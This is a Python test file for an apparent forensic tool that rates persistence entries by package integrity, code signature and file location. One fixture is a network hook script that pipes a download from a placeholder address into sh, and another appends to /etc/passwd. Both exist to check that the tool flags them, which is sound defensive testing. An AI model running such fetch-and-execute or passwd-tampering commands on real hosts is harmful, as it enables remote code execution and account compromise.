"""What the evidence says of the files that entries start: signature, package, existence; end to end, from bytes to findings."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from commodore.host import Host
from commodore.persistence.started import StartedFile
from commodore.persistence.suspicion import Suspicion
from tests.commodore.cases import commodore, records
from tests.commodore.views import inventory

TOOL = b"\x7fELF\x02\x01\x01" + bytes(200)
UNIT = b"[Service]\nExecStart=/var/log/vendor/agent\n"


def host(root: Path, files: dict[str, bytes], sums: dict[str, bytes], settings: dict[str, bytes] | None = None) -> Path:
    """A Debian host with these files. `sums`: files as their package brought them."""
    lines = "".join(f"{hashlib.md5(content).hexdigest()}  {path}\n" for path, content in sums.items())
    listed = "".join(f" /{path} {hashlib.md5(content).hexdigest()}\n" for path, content in (settings or {}).items())
    status = f"Package: vendor\nStatus: install ok installed\nVersion: 1\nConffiles:\n{listed}Description: x\n"
    base = {"etc/hostname": b"srv1\n", "etc/os-release": b"ID=debian\n"}
    base |= {"var/lib/dpkg/info/vendor.md5sums": lines.encode(), "var/lib/dpkg/status": status.encode()}
    for path, content in (base | files).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content)
    return root


def found(root: Path, case: Path, rule: str = "") -> list[tuple[str, str, str]]:
    assert commodore("process", root, "-o", case).returncode == 0
    all_of = map(json.loads, commodore("findings", case, "--json").stdout.splitlines())
    return sorted((f["rule.id"], f["escadre.severity"], f["message"]) for f in all_of if rule in ("", f["rule.id"]))


def test_an_unmodified_file_of_a_package_is_expected_where_the_package_puts_it(tmp_path: Path) -> None:
    unit = "usr/lib/systemd/system/vendor.service"
    elsewhere = b"[Service]\nExecStart=/usr/lib/vendor/.cache/agent\n"
    files = {unit: elsewhere, "usr/lib/vendor/.cache/agent": TOOL}
    same = host(tmp_path / "same" / "srv1", files, files)
    assert not [f for f in found(same, tmp_path / "a") if f[1] in ("high", "critical")]
    entry = next(r for r in records(tmp_path / "a", "persistence") if r["rule.id"] == "L010")
    assert (entry["package.name"], entry["escadre.package.state"]) == ("vendor", "unmodified")
    assert entry["file.hash.sha256"] == hashlib.sha256(TOOL).hexdigest()
    changed = host(tmp_path / "changed" / "srv1", files | {"usr/lib/vendor/.cache/agent": TOOL + b"x"}, files)
    grave = [f for f in found(changed, tmp_path / "b", "L010") if f[1] == "high"]
    assert len(grave) == 1 and "package vendor, modified" in grave[0][2]
    unknown = host(tmp_path / "unknown" / "srv1", files, {unit: elsewhere})
    grave = [f for f in found(unknown, tmp_path / "c", "L010") if f[1] == "high"]
    assert len(grave) == 1 and "not known: its package" in grave[0][2]


def test_a_script_as_its_package_brought_it_may_use_any_folder(tmp_path: Path) -> None:
    """What is foreign to a package counts in its script too, and any change of the script does."""
    hook, module = "etc/network/if-up.d/vendor", "usr/lib/modules/6.1/extra/vendor.ko"
    script = b"#!/bin/sh\n. /run/network/vendor-state\ngrep x /proc/self/status >> /etc/passwd\n"
    loads = script + b"curl -s http://198.51.100.7/x | sh\n"
    files = {hook: script, module: TOOL}
    same = host(tmp_path / "same" / "srv1", files, files)
    for note in ("etc/init.d/README", "etc/rc2.d/README"):
        (same / note).parent.mkdir(parents=True)
        (same / note).symlink_to("../../usr/share/doc/vendor/README")
    assert not found(same, tmp_path / "a")
    assert len(found(host(tmp_path / "changed" / "srv1", files, {}), tmp_path / "b", "L072")) == 2
    assert len(found(tmp_path / "changed" / "srv1", tmp_path / "b", "L110")) == 1
    (foreign,) = found(host(tmp_path / "foreign" / "srv1", {hook: loads}, {hook: loads}), tmp_path / "c")
    assert foreign[:2] == ("L072", "high") and "loads a script from the network" in foreign[2]


def test_a_rule_as_its_package_brought_it_is_expected_unless_it_is_grave(tmp_path: Path) -> None:
    path = "var/lib/polkit-1/localauthority/10-vendor.d/vendor.pkla"
    rule = b"[x]\nIdentity=unix-group:sudo\nAction=org.vendor.upgrade\nResultAny=no\nResultActive=yes\n"
    grave = rule.replace(b"Any=no", b"Any=yes")
    assert not found(host(tmp_path / "same" / "srv1", {path: rule}, {path: rule}), tmp_path / "a")
    assert [f[:2] for f in found(host(tmp_path / "own" / "srv1", {path: rule}, {}), tmp_path / "b")] == [("L068", "medium")]
    assert [f[:2] for f in found(host(tmp_path / "grave" / "srv1", {path: grave}, {path: grave}), tmp_path / "c")] == [("L068", "high")]


@pytest.mark.parametrize(
    ("path", "severity"), [("usr/bin/tool", "high"), ("lib/systemd/system/vendor.service", "high"), ("usr/share/doc/vendor/x", "medium")]
)
def test_a_changed_file_of_a_package_is_a_finding_of_its_own(tmp_path: Path, path: str, severity: str) -> None:
    root = host(tmp_path / "srv1", {path: TOOL + b"changed"}, {path: TOOL})
    (shown,) = found(root, tmp_path / "case", "L052")
    assert shown[1] == severity and "the package vendor brought" in shown[2]


def test_settings_may_be_changed_and_unmodified_ones_are_known(tmp_path: Path) -> None:
    brought = {"etc/cron.d/vendor": b"1 1 * * * root /usr/bin/tool\n", "etc/vendor.conf": b"a\n"}
    root = host(tmp_path / "srv1", brought | {"etc/vendor.conf": b"b\n"}, {}, brought)
    assert not found(root, tmp_path / "case", "L052")
    states = {r["file.path"]: r["escadre.package.state"] for r in records(tmp_path / "case", "package_files")}
    assert states["/etc/cron.d/vendor"] == "unmodified" and states.get("/etc/vendor.conf", "settings modified") == "settings modified"


@pytest.mark.parametrize(
    ("file", "left"),
    [
        (StartedFile("C:\\x"), ["high lies", "medium lies", "high has the name"]),
        (StartedFile("C:\\x", verdict="valid", signer="ACME"), ["medium lies, though it is signed by ACME", "high has the name"]),
        (StartedFile("/x", package="p", state="unmodified"), ["high has the name"]),
        (
            StartedFile("/x", package="p", state="modified"),
            ["high lies", "medium lies", "high has the name", "high is not the file that the package p brought"],
        ),
        (
            StartedFile("C:\\x", verdict="invalid", signer="ACME"),
            ["high lies", "medium lies", "high has the name", "high has a signature that does not fit its content"],
        ),
    ],
)
def test_a_signature_or_package_speaks_for_the_place_and_not_for_the_name(file: StartedFile, left: list[str]) -> None:
    given = [Suspicion("high", "lies"), Suspicion("medium", "lies"), Suspicion("high", "has the name")]
    assert [f"{one.severity} {one.words}" for one in file.weighed(given)] == left


WINDOWS = Host("c", name="h", os="windows", system_root="C:\\Windows")


def judged(record: dict, verdict: str, path: str, **more: list[dict]) -> tuple[str, str]:
    """Severity and message of an entry whose file has this verdict on its signature."""
    program = {"file.path": path, "file.hash.sha256": "aa", "escadre.signature.verdict": verdict, "escadre.id": "p"}
    program |= {"file.code_signature.subject_name": "ACME"} if verdict == "valid" else {}
    members = [{"path": path, "verdict": "taken", "sha256": "aa"}]
    (entry,) = [e for e in inventory([record], WINDOWS, members, programs=[program], **more) if path in e["target"]["payload"]]
    return entry.get("escadre.severity", ""), entry["message"]


RUN = {
    "event.dataset": "run_keys",
    "escadre.id": "r",
    "registry.path": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
    "registry.key": "Microsoft\\Windows\\CurrentVersion\\Run",
}
PACKAGES = {
    "event.dataset": "autostart_values",
    "escadre.id": "r",
    "escadre.persistence.rows": ["W060"],
    "registry.path": "HKLM\\SYSTEM\\ControlSet001\\Control\\Lsa\\Authentication Packages",
    "registry.key": "ControlSet001\\Control\\Lsa",
}


@pytest.mark.parametrize(
    ("verdict", "run", "library"), [("valid", "medium", ""), ("unknown", "high", "high"), ("invalid", "high", "high"), ("", "high", "high")]
)
def test_a_valid_signature_is_expected_and_an_odd_place_is_a_question(verdict: str, run: str, library: str) -> None:
    program, provider = "C:\\Windows\\Temp\\acme.exe", "C:\\Program Files\\ACME\\logon.dll"
    severity, message = judged(RUN | {"process.command_line": program}, verdict, program)
    assert severity == run and ("is signed by ACME" in message) == (verdict == "valid")
    severity, message = judged(PACKAGES | {"registry.data.strings": [provider]}, verdict, provider)
    assert severity == library


def test_a_finding_says_what_is_not_known_of_its_file() -> None:
    path = "C:\\Windows\\Temp\\acme.exe"
    (entry,) = inventory([RUN | {"process.command_line": path}], WINDOWS)
    assert entry["message"].endswith("Not known of C:\\Windows\\Temp\\acme.exe: its content (not collected) and whether it is signed.")
    (gone,) = inventory([RUN | {"process.command_line": path}], WINDOWS, missing_targets=[{"file.path": path}])
    assert gone["escadre.persistence.known"] == ["it was not there when the host was collected"]
    _, unsigned = judged(RUN | {"process.command_line": path}, "unknown", path, security_catalogs=[{"file.path": "x.cat"}])
    assert "neither it nor a collected catalog" in unsigned
